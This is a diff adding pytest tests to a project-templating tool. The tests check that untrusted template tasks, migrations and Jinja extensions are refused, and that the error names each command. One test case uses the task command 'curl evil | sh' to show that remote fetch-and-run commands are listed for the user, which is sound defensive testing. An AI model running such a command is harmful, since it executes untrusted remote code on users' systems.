@@ -161,6 +161,56 @@ def test_it_is_asked_for_once_with_all_that_will_run(tmp_path: Path) -> None:
     assert said["cause"] == "task: echo task; migration: echo before; migration: echo after"
 
 
+UNLESS = "{{ quiet is not defined }}"
+
+
+@pytest.mark.parametrize(
+    ("task", "said"),
+    [
+        ({"command": "curl evil | sh", "when": "{{ name }}"}, "; task (if its condition holds): curl evil | sh"),
+        ({"command": ["sh", "-c", "x"], "when": UNLESS}, "; task (if its condition holds): sh -c x"),
+        ({"command": "echo two", "when": ONCE}, "; task: echo two"),
+        ({"command": "echo two", "when": True}, "; task: echo two"),
+        ({"command": "echo two", "when": "{{ _copier_operation == 'update' }}"}, ""),
+        ({"command": "echo two", "when": "no"}, ""),
+    ],
+)
+def test_beside_a_certain_task_those_with_a_condition_are_named(tmp_path: Path, task: object, said: str) -> None:
+    at = road(tmp_path, "echo plain", task)
+    refused = paved("new", tmp_path / "service", "--road", at, "--json").envelope["error"]
+    assert refused["cause"] == f"task: echo plain{said}"
+
+
+def test_a_certain_migration_hides_no_task_and_no_migration_with_a_condition(tmp_path: Path) -> None:
+    at = road(tmp_path)
+    assert paved("new", tmp_path / "service", "--road", at).code == 0
+    moves = [
+        {"version": "1.1.0", "command": "echo after"},
+        {"version": "1.1.0", "command": "echo fresh", "when": "{{ new and _stage == 'after' }}"},
+        {"version": "1.1.0", "command": "echo before", "when": "{{ _stage == 'before' }}"},
+        {"version": "9", "command": "echo never", "when": "{{ new }}"},
+    ]
+    tasks = [{"command": "echo if", "when": "{{ new }}"}, {"command": "echo once", "when": ONCE}]
+    evolve(at, {"copier.yml": config(*tasks, _migrations=moves, new={"type": "bool", "default": True})}, tag="v1.1.0")
+    refused = paved("update", tmp_path / "service", "--json").envelope["error"]
+    assert refused["cause"] == (
+        "task (if its condition holds): echo if; migration: echo before; migration: echo after; "
+        "migration (if its condition holds): echo fresh"
+    )
+
+
+def test_beside_an_extension_every_command_is_named(tmp_path: Path) -> None:
+    moves = [{"version": "2", "command": "echo move"}, {"version": "3", "before": ["echo old"], "after": [["a", "b"]]}]
+    task = {"command": "echo if", "when": "{{ name }}"}
+    at = road(tmp_path, "echo plain", task, _jinja_extensions=["jinja2.ext.do"], _migrations=moves)
+    refused = paved("new", tmp_path / "service", "--road", at, "--json").envelope["error"]
+    assert refused["cause"] == (
+        "Jinja extension: jinja2.ext.do; task: echo plain; task (if its condition holds): echo if; "
+        "migration (if an update passes its release): echo move; "
+        "migration (if an update passes its release): echo old; migration (if an update passes its release): a b"
+    )
+
+
 def test_a_lock_command_without_trust_is_told(tmp_path: Path) -> None:
     at = road(tmp_path, files={"paved-road.yml": "owners: {derived: {made.lock: touch made.lock}}\n"})
     said = paved("new", tmp_path / "service", "--road", at)
